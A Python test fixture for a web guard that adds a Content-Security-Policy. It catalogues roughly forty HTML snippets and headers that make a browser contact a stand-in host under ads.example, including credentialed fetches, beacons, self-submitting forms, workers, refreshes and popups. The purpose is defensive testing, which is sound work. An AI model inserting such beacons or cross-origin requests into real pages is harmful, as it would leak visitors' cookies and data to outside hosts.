"""Strangers: every way in which a page can make a browser turn to somebody else, each to a host of its own.

Room: example shop. Plain data: ``hostile`` serves it, and a browser shows what comes of it, with the guard and
without. A new way is one more record here. On the wire there is nothing to be seen of most of them, for what
stops them is the browser, by the Content-Security-Policy that the guard adds; for those that no policy stops the
guard has rules of their own.
"""

from __future__ import annotations

from dataclasses import dataclass

DOMAIN = "ads.example"


@dataclass(frozen=True)
class Way:
    """A way by which a page turns to a stranger.

    Attributes:
        tried: What it is, in words.
        html: What stands in the page; ``{url}`` is the stranger's address, ``{host}`` its host.
        header: A header of the page.
        rule: The rule of the guard that makes it inert in pages, where no policy header stops it.
        alone: Whether it leads away from the page, so that it has one of its own.
    """

    tried: str
    html: str = ""
    header: tuple[str, str] | None = None
    rule: str = ""
    alone: bool = False


@dataclass(frozen=True)
class Page:
    """A page of the hostile app.

    Attributes:
        tried: What it tries, in words.
        html: Its text.
        headers: Its headers.
    """

    tried: str
    html: str
    headers: tuple[tuple[str, str], ...] = ()


#: By name: the stranger is <name>.ads.example.
WAYS = {
    # Heeded in the head alone, which ends where the first of the others stands.
    "manifest": Way("a manifest", '<link rel="manifest" href="{url}">'),
    "img": Way("a picture", '<img alt="" src="{url}">'),
    "srcset": Way("a picture for sharp screens", '<img alt="" srcset="{url} 1x, {url}2 2x">'),
    "picture": Way("a picture to choose", '<picture><source srcset="{url}"><img alt=""></picture>'),
    "input": Way("a button with a picture", '<input type="image" alt="" src="{url}">'),
    "background": Way("a background, as of 1996", '<table background="{url}"><tr><td>.</table>'),
    "svg": Way("a picture in a drawing", '<svg><image href="{url}"/></svg>'),
    "script": Way("a script", '<script src="{url}"></script>'),
    "module": Way("a script’s module", '<script type="module">import "{url}"</script>'),
    "style": Way("a style sheet", '<link rel="stylesheet" href="{url}">'),
    "import": Way("a style sheet within one", '<style>@import "{url}";</style>'),
    "inline": Way("a background in a style", '<p style="background: url({url})">.</p>'),
    "font": Way(
        "a font",
        "<style>@font-face {{ font-family: ads; src: url({url}) }} b {{ font-family: ads }}</style><b>Text</b>",
    ),
    "video": Way("a video", '<video src="{url}"></video>'),
    "poster": Way("a video’s poster", '<video poster="{url}"></video>'),
    "audio": Way("a sound", '<audio src="{url}" preload="auto"></audio>'),
    "track": Way("a video’s subtitles", '<video crossorigin><track default src="{url}"></video>'),
    "object": Way("an object", '<object data="{url}"></object>'),
    "embed": Way("an embedded thing", '<embed src="{url}">'),
    "preload": Way("a script, loaded ahead", '<link rel="preload" as="script" href="{url}">'),
    "modulepreload": Way("a module, loaded ahead", '<link rel="modulepreload" href="{url}">'),
    "prefetch": Way("a page, loaded ahead", '<link rel="prefetch" href="{url}">'),
    "fetch": Way(
        "a script’s request, with cookies",
        '<script>fetch("{url}", {{mode: "no-cors", credentials: "include"}}).catch(() => 0)</script>',
    ),
    "xhr": Way(
        "an old script’s request",
        '<script>{{ const asks = new XMLHttpRequest(); asks.open("GET", "{url}"); asks.send() }}</script>',
    ),
    "beacon": Way("a beacon", '<script>navigator.sendBeacon("{url}", "visitor=7")</script>'),
    "keepalive": Way(
        "a request that outlives the page",
        '<script>fetch("{url}", {{mode: "no-cors", keepalive: true}}).catch(() => 0)</script>',
    ),
    "events": Way("a stream of events", '<script>new EventSource("{url}")</script>'),
    "socket": Way("a web socket", '<script>new WebSocket("ws://{host}/")</script>'),
    "worker": Way("a worker’s request", '<script>new Worker("/hostile/script/worker")</script>'),
    "imported": Way("a worker’s script", '<script>new Worker("/hostile/script/imports")</script>'),
    "ping": Way(
        "a link’s ping",
        '<a id="pings" href="#here" ping="{url}">Here</a><script>document.getElementById("pings").click()</script>',
    ),
    "link-preload": Way(
        "a script, loaded ahead by a header", header=("Link", "<{url}>; rel=preload; as=script")
    ),
    "link-style": Way("a style sheet by a header", header=("Link", "<{url}>; rel=preload; as=style")),
    "link-connect": Way("a connection ahead, by a header", header=("Link", "<{url}>; rel=preconnect")),
    "link-prefetch": Way("a page, loaded ahead by a header", header=("Link", "<{url}>; rel=prefetch")),
    "rules-header": Way("rules for loading ahead, elsewhere", header=("Speculation-Rules", '"{url}"')),
    "refresh": Way("a header that leads on", header=("Refresh", "0; url={url}"), alone=True),
    # What follows no policy header stops, or not before the browser has connected: the guard reads pages for it.
    "dns-prefetch": Way("a name, looked up ahead", '<link rel="dns-prefetch" href="{url}">', rule="H1"),
    "preconnect": Way("a connection ahead", '<link rel="preconnect" href="{url}">', rule="H1"),
    "refreshing": Way(
        "a page that leads on", '<meta http-equiv="refresh" content="0; url={url}">', rule="H2", alone=True
    ),
    "rules": Way(
        "rules for loading ahead",
        '<script type="speculationrules">{{"prefetch": [{{"urls": ["{url}"], "eagerness": "immediate"}}]}}</script>',
        rule="H3",
    ),
    "frame": Way("a frame", '<iframe title="Ads" src="{url}"></iframe>', rule="H5"),
    "srcdoc": Way("a page in a frame", "<iframe title='Ads' srcdoc='<img alt=\"\" src=\"{url}\">'></iframe>"),
    "form": Way(
        "a form that sends itself",
        '<iframe title="Sent" name="{host}"></iframe><form action="{url}" method="post" target="{host}"></form>'
        # Made inert, it goes to its own page, which is then in the frame, and must not send itself again.
        "<script>if (self === top) document.currentScript.previousElementSibling.submit()</script>",
        rule="H6",
    ),
    "popup": Way("a window that opens itself", '<script>window.open("{url}")</script>', rule="H7"),
}


def address(name: str) -> str:
    """Return the address of the stranger to whom the way of that *name* leads."""
    return f"http://{name}.{DOMAIN}/"


def _written(text: str, name: str) -> str:
    return text.format(url=address(name), host=f"{name}.{DOMAIN}")


def _page(tried: str, *names: str) -> Page:
    ways = {name: WAYS[name] for name in names}
    lines = [_written(way.html, name) for name, way in ways.items() if way.html]
    headers = [
        (way.header[0], _written(way.header[1], name)) for name, way in ways.items() if way.header is not None
    ]
    html = "\n".join(
        [
            '<!doctype html><html lang="en"><title>A bad day</title>',
            *lines,
            '<h1 id="here">A page that turns to strangers</h1></html>',
        ]
    )
    return Page(tried, html, tuple(headers))


#: By name: one page of all that lets the visitor stay and that a policy header stops, and one of each other way.
PAGES = {
    "all": _page("everything at once", *(name for name, way in WAYS.items() if not (way.alone or way.rule))),
    **{name: _page(way.tried, name) for name, way in WAYS.items() if way.alone or way.rule},
}

#: By name: scripts of our own that turn to strangers from within a worker.
SCRIPTS = {
    "worker": f'fetch("{address("worker")}", {{mode: "no-cors", credentials: "include"}}).catch(() => 0)'
    '.then(() => fetch("/hostile/nothing?worker"))',
    "imports": f'try {{ importScripts("{address("imported")}") }} catch {{}}; fetch("/hostile/nothing?imports")',
}
